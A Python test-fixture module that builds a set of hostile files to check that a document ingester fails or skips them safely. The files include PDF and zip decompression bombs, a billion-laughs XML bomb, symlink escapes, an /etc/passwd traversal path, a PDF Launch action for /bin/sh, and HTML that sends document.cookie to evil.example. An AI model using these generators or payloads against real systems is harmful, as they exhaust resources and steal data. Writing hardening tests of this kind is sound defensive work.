"""A generated set of hostile input files, and what kb must say about each.

``write_hostile_set(folder)`` writes broken, malicious and oversized files
(corrupt and encrypted PDFs, PDF and zip bombs, a 50 MB single-page PDF,
script-laden HTML, file names with newlines and markup, symlink loops...) plus
a few good files, and returns one ``Expect`` per path that ``discover`` will
see. Everything is built at test time from deterministic bytes, so nothing
hostile is committed to the repository.

PDFs are assembled by hand (``build_pdf``) where a generator library would
refuse to write something this broken.
"""

from __future__ import annotations

import io
import os
import random
import struct
import zipfile
import zlib
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path

from conftest import write_encrypted_pdf, write_image_only_pdf, write_pdf

# Outcomes a file may have in an IngestReport.
ADDED, FAILED, SKIPPED = "added", "failed", "skipped"

FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
LINE = b"BT /F1 12 Tf 72 720 Td (This page holds one short line of review text.) Tj ET"


@dataclass(frozen=True)
class Expect:
    """What the ingest report must say about one file."""

    outcome: str  # ADDED, FAILED or SKIPPED
    reason: str = ""  # a fragment the one-line reason must contain (FAILED/SKIPPED)
    why: str = ""  # what the file is, for test ids and messages


def good_pages(name: str) -> list[list[str]]:
    """Three short pages of distinct, review-like prose mentioning ``name``."""
    return [
        [
            "1 Introduction",
            f"This review considers the circumstances of {name}, who was harmed at home.",
            "The partnership commissioned the review after a rapid review meeting.",
            f"{name} lived with a mother, a stepfather and two younger siblings.",
        ],
        [
            "2 Findings",
            "The health visitor saw the baby twice and recorded no concerns at all.",
            "Police attended a domestic incident but made no referral that summer.",
            f"Agencies each held part of the picture of {name} and nobody joined it up.",
        ],
        [
            "3 Recommendations",
            "Every agency should be able to see the history of domestic abuse.",
            f"A distinctive detail about {name}: a kite with a tartan tail in the garden.",
        ],
    ]


# --------------------------------------------------------------------------- PDF plumbing


def build_pdf(objects: Sequence[bytes], *, trailer: bytes = b"") -> bytes:
    """A PDF whose object n (1-based) is ``objects[n-1]``, with a correct xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for offset in offsets:
        out += f"{offset:010d} 00000 n \n".encode()
    out += (
        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R ".encode()
        + trailer
        + f" >>\nstartxref\n{xref}\n%%EOF\n".encode()
    )
    return bytes(out)


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def one_page_pdf(
    content: bytes = LINE,
    *,
    count: int = 1,
    page_extra: bytes = b"",
    resources: bytes = b"",
    catalog_extra: bytes = b"",
    more: Sequence[bytes] = (),
    content_extra: bytes = b"",
) -> bytes:
    """Catalog 1, Pages 2, Page 3, Contents 4, Font 5, then ``more`` as 6, 7, ..."""
    return build_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog_extra,
            b"<< /Type /Pages /Kids [3 0 R] /Count %d >>" % count,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> %s >> %s >>" % (resources, page_extra),
            stream(content, content_extra),
            FONT,
            *more,
        ]
    )


def many_pages_pdf(n: int) -> bytes:
    """``n`` real pages sharing one content stream: small file, large page count."""
    first_page = 5
    kids = b" ".join(b"%d 0 R" % (first_page + i) for i in range(n))
    pages = [
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 3 0 R "
        b"/Resources << /Font << /F1 4 0 R >> >> >>"
    ] * n
    return build_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, n),
            stream(LINE),
            FONT,
            *pages,
        ]
    )


def doubling_tree_pdf(levels: int) -> bytes:
    """A page tree whose every node lists the next node twice: 2**levels pages declared."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for k in range(levels):
        nxt = 3 + k
        objects.append(
            b"<< /Type /Pages /Kids [%d 0 R %d 0 R] /Count %d >>" % (nxt, nxt, 2 ** (levels - k))
        )
    page = 2 + levels
    objects.append(
        b"<< /Type /Page /MediaBox [0 0 612 792] /Contents %d 0 R "
        b"/Resources << /Font << /F1 %d 0 R >> >> >>" % (page + 1, page + 2)
    )
    objects += [stream(LINE), FONT]
    return build_pdf(objects)


def repeated_deflate(block: bytes, times: int) -> bytes:
    """Raw deflate data for ``block * times``, built from one compressed block.

    A full flush makes each compressed block independent of the previous
    ones, so the block can simply be repeated: gigabytes in a second, where
    compressing them for real would take a minute.
    """
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    one = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    return one * times + packer.flush(zlib.Z_FINISH)


def flate_bomb_pdf(expanded_mb: int) -> bytes:
    """One page whose content stream inflates from a few MB to ``expanded_mb`` MB.

    The zlib checksum is left as zeros on purpose: a decoder runs out of its
    budget long before it gets that far, and computing it over gigabytes would
    only slow the test down.
    """
    packed = b"\x78\xda" + repeated_deflate(b" " * (1 << 20), expanded_mb) + b"\0\0\0\0"
    return one_page_pdf(packed, content_extra=b"/Filter /FlateDecode")


def big_single_page_pdf(megabytes: int, rng: random.Random) -> bytes:
    """One page: a line of text over an incompressible ``megabytes`` MB image."""
    side = int((megabytes * 1024 * 1024 / 3) ** 0.5) + 1
    pixels = rng.randbytes(side * side * 3)
    image = stream(
        pixels,
        b"/Type /XObject /Subtype /Image /Width %d /Height %d "
        b"/ColorSpace /DeviceRGB /BitsPerComponent 8" % (side, side),
    )
    return one_page_pdf(
        b"q 612 0 0 792 0 0 cm /Im1 Do Q " + LINE,
        resources=b"/XObject << /Im1 6 0 R >>",
        more=[image],
    )


# --------------------------------------------------------------------------- DOCX plumbing


def zip_bytes(entries: dict[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=compression) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buf.getvalue()


CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="application/xml"/></Types>'
)


def zip_bomb_docx(expanded_mb: int) -> bytes:
    """A DOCX whose word/document.xml inflates from ~1/1000 of that to ``expanded_mb`` MB.

    Written by hand (zipfile would have to compress the gigabytes). The CRC of
    the bomb member is zero on purpose: nothing should ever inflate it far
    enough to check.
    """
    members = [
        ("[Content_Types].xml", 0, CONTENT_TYPES, zlib.crc32(CONTENT_TYPES), len(CONTENT_TYPES)),
        (
            "word/document.xml",
            8,
            repeated_deflate(b"<w:p/>" * (1 << 17), expanded_mb * 4 // 3),
            0,
            (6 << 17) * (expanded_mb * 4 // 3),
        ),
    ]
    out = bytearray()
    central = bytearray()
    for name, method, data, crc, size in members:
        offset = len(out)
        raw_name = name.encode()
        fields = (20, 0, method, 0, 0x21, crc, len(data), size, len(raw_name))
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, *fields, 0) + raw_name + data
        central += (
            struct.pack("<IH", 0x02014B50, 20)
            + struct.pack("<HHHHHIIIHHHHHII", *fields, 0, 0, 0, 0, 0, offset)
            + raw_name
        )
    start = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members),
                       len(central), start, 0)
    return bytes(out)


def billion_laughs_docx(template: bytes) -> bytes:
    """``template`` (a good DOCX) with a document.xml whose nested entities would
    expand to gigabytes if an XML parser resolved them."""
    entities = b'<!ENTITY lol "lol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    xml = (
        b'<?xml version="1.0"?><!DOCTYPE w:document [' + entities + b"]>"
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        b"<w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>"
    )
    with zipfile.ZipFile(io.BytesIO(template)) as good:
        entries = {name: good.read(name) for name in good.namelist()}
    entries["word/document.xml"] = xml
    return zip_bytes(entries)


def good_docx(path: Path, name: str) -> Path:
    import docx

    document = docx.Document()
    document.add_heading(f"Review of {name}", level=1)
    for page in good_pages(name):
        document.add_heading(page[0], level=2)
        document.add_paragraph(" ".join(page[1:]))
    document.save(str(path))
    return path


# --------------------------------------------------------------------------- HTML

SCRIPT_HTML = """<!doctype html>
<html><head><title>Review of Child H &lt;b&gt;</title>
<script>fetch("https://evil.example/steal?c=" + document.cookie)</script>
<style>body { background: url(https://evil.example/pixel.png) }</style>
</head>
<body onload="alert('onload')">
<h1>Review of Child H</h1>
<p onclick="alert('click')">The school nurse noticed that Child H was often hungry and tired.
Teachers wrote &lt;script&gt;alert("xss")&lt;/script&gt; on the whiteboard as an example
of what an injected page might say, and the review quotes it here as text.</p>
<img src="x" onerror="alert('img')">
<p>The family moved house three times in a single year and each move closed a referral.
A distinctive detail: the review mentions a <a href="javascript:alert('link')">lantern
painted with herons</a> left on the doorstep.</p>
<iframe src="https://evil.example/frame"></iframe>
<script>document.write('<p>Injected by script: should never be indexed</p>')</script>
</body></html>
"""

ONLY_SCRIPTS_HTML = """<html><head><script>var a = 1;</script></head>
<body><script>for (;;) {}</script><style>p { color: red }</style></body></html>
"""


def deep_html(depth: int) -> str:
    return (
        "<html><body>" + "<div>" * depth + "<p>Deep text about a child and a school.</p>"
        + "</div>" * depth + "</body></html>"
    )


# --------------------------------------------------------------------------- the set

# File names that are themselves hostile; the content decides the outcome.
NEWLINE_GOOD = "good\nname with newline.pdf"
NEWLINE_BAD = "bad\nname\rwith controls.pdf"
UNICODE_GOOD = "révision-straße-子供-😀.pdf"
MARKUP_GOOD = '"><img src=x onerror=alert(1)>.pdf'
TAB_BAD = "名前\tタブ.pdf"

FLATE_BOMB_MB = 3072  # more than any sensible per-file budget, and more than the test's
ZIP_BOMB_MB = 3072


def write_hostile_set(folder: Path, *, seed: int = 7) -> dict[Path, Expect]:
    """Write the hostile set and the good files into ``folder``; return the expectations."""
    rng = random.Random(seed)
    folder.mkdir(parents=True, exist_ok=True)
    outside = folder.parent / f"{folder.name}-outside"
    outside.mkdir(exist_ok=True)
    expect: dict[Path, Expect] = {}

    def put(name: str, data: bytes | str, outcome: str, reason: str = "", why: str = "") -> Path:
        path = folder / name
        if isinstance(data, str):
            path.write_text(data, encoding="utf-8")
        else:
            path.write_bytes(data)
        expect[path] = Expect(outcome, reason, why or name)
        return path

    # Good files: they must all be ingested, hostile neighbours or not.
    good_a = write_pdf(folder / "good-review-a.pdf", good_pages("Child A"), title="Child A")
    good_b = write_pdf(folder / "good-review-b.pdf", good_pages("Child B"))
    expect[good_a] = Expect(ADDED, why="good PDF")
    expect[good_b] = Expect(ADDED, why="good PDF")
    expect[good_docx(folder / "good-review-c.docx", "Child C")] = Expect(ADDED, why="good DOCX")
    good_bytes = good_a.read_bytes()

    # Broken PDFs.
    put("empty.pdf", b"", FAILED, "empty file", "zero-byte file")
    put("random-bytes.pdf", rng.randbytes(64 * 1024), FAILED, "not a PDF", "binary garbage")
    put("plain-text.pdf", "just some words\n" * 100, FAILED, "not a PDF", "text named .pdf")
    put("header-only.pdf", b"%PDF-1.7\n", FAILED, "corrupt or truncated", "header and nothing")
    put(
        "truncated-half.pdf",
        good_bytes[: len(good_bytes) // 2],
        FAILED,
        "corrupt or truncated",
        "truncated PDF",
    )
    put(
        "garbage-after-header.pdf",
        b"%PDF-1.4\n" + rng.randbytes(32 * 1024),
        FAILED,
        "corrupt or truncated",
        "PDF header then garbage",
    )
    encrypted = write_encrypted_pdf(folder / "encrypted.pdf", good_a)
    expect[encrypted] = Expect(FAILED, "encrypted", "password-protected PDF")
    expect[write_image_only_pdf(folder / "scan-no-text.pdf")] = Expect(
        FAILED, "no text layer", "image-only PDF without OCR"
    )

    # PDF bombs and monsters.
    put(
        "page-count-lie.pdf",
        one_page_pdf(count=2_000_000_000),
        ADDED,
        why="declares 2 billion pages, holds one (pdfium counts the real ones)",
    )
    put(
        "page-tree-bomb.pdf",
        doubling_tree_pdf(40),
        FAILED,
        "PDF",  # pdfium's error code varies here: "corrupt" or "unreadable"
        "page tree declaring 2**40 pages through shared kids",
    )
    put(
        "page-tree-loop.pdf",
        build_pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
                b"/Resources << /Font << /F1 5 0 R >> >> >>",
                stream(LINE),
                FONT,
            ]
        ),
        FAILED,
        "unreadable",
        "page tree that contains itself",
    )
    put(
        "too-many-pages.pdf",
        many_pages_pdf(6000),
        FAILED,
        "6000 pages (limit",
        "6,000 real pages",
    )
    put(
        "nested-arrays.pdf",
        one_page_pdf(catalog_extra=b"/Deep 6 0 R", more=[b"[" * 200_000 + b"]" * 200_000]),
        ADDED,
        why="200,000 nested arrays beside a good page",
    )
    put(
        "nested-dicts.pdf",
        one_page_pdf(resources=b"/X " + b"<< /A " * 50_000 + b"1" + b" >>" * 50_000),
        ADDED,
        why="50,000 nested dictionaries in the page resources",
    )
    put(
        "xref-points-nowhere.pdf",
        good_bytes.replace(b"startxref", b"startxref\n999999999\n%", 1),
        ADDED,
        why="startxref offset past the end (pdfium rebuilds the table)",
    )
    put(
        "javascript.pdf",
        one_page_pdf(
            catalog_extra=b"/OpenAction << /S /JavaScript /JS (app.alert\\('pwned'\\)) >>",
            page_extra=b"/AA << /O << /S /Launch /F (/bin/sh) >> >>",
        ),
        ADDED,
        why="OpenAction JavaScript and a Launch action (never run; text only)",
    )
    put(
        "flate-bomb.pdf",
        flate_bomb_pdf(FLATE_BOMB_MB),
        FAILED,
        " MB",
        f"content stream inflating to {FLATE_BOMB_MB} MB",
    )
    put(
        "single-page-50mb.pdf",
        big_single_page_pdf(50, rng),
        ADDED,
        why="50 MB single page (a huge image under one line of text)",
    )

    # DOCX.
    put("zip-bomb.docx", zip_bomb_docx(ZIP_BOMB_MB), FAILED, "zip bomb", "DOCX zip bomb")
    put("not-a-zip.docx", rng.randbytes(10_000), FAILED, "not a valid zip", "garbage DOCX")
    docx_bytes = (folder / "good-review-c.docx").read_bytes()
    put(
        "truncated.docx",
        docx_bytes[: len(docx_bytes) // 2],
        FAILED,
        "not a valid zip",
        "truncated DOCX",
    )
    put(
        "no-document.docx",
        zip_bytes({"[Content_Types].xml": CONTENT_TYPES, "junk.bin": b"\0" * 100}),
        FAILED,
        "unreadable DOCX",
        "zip without word/document.xml",
    )
    put(
        "billion-laughs.docx",
        billion_laughs_docx(docx_bytes),
        FAILED,
        "DOCX",
        "XML entity expansion bomb",
    )
    put(
        "many-entries.docx",
        zip_bytes({f"f{i}": b"" for i in range(12_000)}, compression=zipfile.ZIP_STORED),
        FAILED,
        "entries (limit",
        "12,000 zip entries",
    )

    # HTML and text.
    put("scripts-and-handlers.html", SCRIPT_HTML, ADDED, why="script tags and event handlers")
    put("only-scripts.html", ONLY_SCRIPTS_HTML, FAILED, "no text found", "HTML with no text")
    # libxml2 stops at its nesting limit, so the deep paragraph is never reached.
    put("deep-nesting.html", deep_html(50_000), FAILED, "no text found", "50,000 nested divs")
    put(
        "binary.txt",
        bytes(range(256)) * 64,
        FAILED,
        "",
        "binary bytes named .txt",
    )

    # Hostile names (content decides the outcome; the report must stay one line per file).
    write_pdf(folder / NEWLINE_GOOD, good_pages("Child N"))
    expect[folder / NEWLINE_GOOD] = Expect(ADDED, why="newline in the name")
    put(NEWLINE_BAD, rng.randbytes(2048), FAILED, "not a PDF", "newline and CR in a bad name")
    write_pdf(folder / UNICODE_GOOD, good_pages("Child U"))
    expect[folder / UNICODE_GOOD] = Expect(ADDED, why="non-ASCII and emoji name")
    write_pdf(folder / MARKUP_GOOD, good_pages("Child M"))
    expect[folder / MARKUP_GOOD] = Expect(ADDED, why="HTML markup in the name")
    put(TAB_BAD, b"%PDF-1.7\n%%EOF\n", FAILED, "corrupt or truncated", "tab and CJK in the name")

    # Links.
    os.symlink("loop-b.pdf", folder / "loop-a.pdf")
    os.symlink("loop-a.pdf", folder / "loop-b.pdf")
    expect[folder / "loop-a.pdf"] = Expect(FAILED, "looping symlink", "symlink loop")
    expect[folder / "loop-b.pdf"] = Expect(FAILED, "looping symlink", "symlink loop")
    os.symlink("self.pdf", folder / "self.pdf")
    expect[folder / "self.pdf"] = Expect(FAILED, "looping symlink", "symlink to itself")
    os.symlink("does-not-exist.pdf", folder / "dangling.pdf")
    expect[folder / "dangling.pdf"] = Expect(FAILED, "broken", "dangling symlink")
    secret = write_pdf(outside / "secret.pdf", good_pages("Child S"))
    os.symlink(secret, folder / "outside.pdf")
    expect[folder / "outside.pdf"] = Expect(SKIPPED, "outside the folder", "symlink out of tree")
    (folder / "sub").mkdir()
    os.symlink("..", folder / "sub" / "up")  # a directory loop: walked once, never followed
    return expect


PATH_TRAVERSAL_MANIFEST = """publications:
  - path: /government/publications/a-real-looking-review
    title: A review
  - path: /government/publications/../../../../etc/passwd
    title: Not a review
"""


def spin_forever() -> None:
    """For the time budget: a parse that never ends."""
    while True:
        pass


def allocate_mb(megabytes: int) -> int:
    """For the memory budget: hold ``megabytes`` MB at once."""
    blocks = [bytearray(1024 * 1024) for _ in range(megabytes)]
    return len(blocks)


def crash_hard() -> None:
    """For crash handling: die the way a buggy C parser does."""
    import ctypes

    ctypes.string_at(0)


def try_network() -> str:
    """For the worker's network lock: try to reach a documentation address."""
    import socket

    with socket.create_connection(("192.0.2.1", 80), timeout=1):
        return "connected"


def env_value(name: str) -> str | None:
    """The worker's own value of an environment variable."""
    return os.environ.get(name)
